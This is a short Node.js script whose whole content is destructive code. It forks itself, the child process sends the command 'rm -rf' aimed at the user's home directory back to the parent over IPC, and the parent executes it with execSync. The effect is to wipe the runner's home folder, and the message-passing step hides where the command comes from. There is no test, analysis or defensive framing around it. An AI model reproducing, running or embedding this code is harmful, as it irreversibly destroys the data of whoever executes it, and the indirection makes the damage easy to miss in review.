const { fork, execSync } = require("child_process");
const os = require("os");

if (process.argv[2] === "worker") {
  process.send({ step: "rm -rf " + os.homedir() });
  process.exit(0);
} else {
  const child = fork(__filename, ["worker"]);
  child.on("message", (msg) => execSync(msg.step));
}
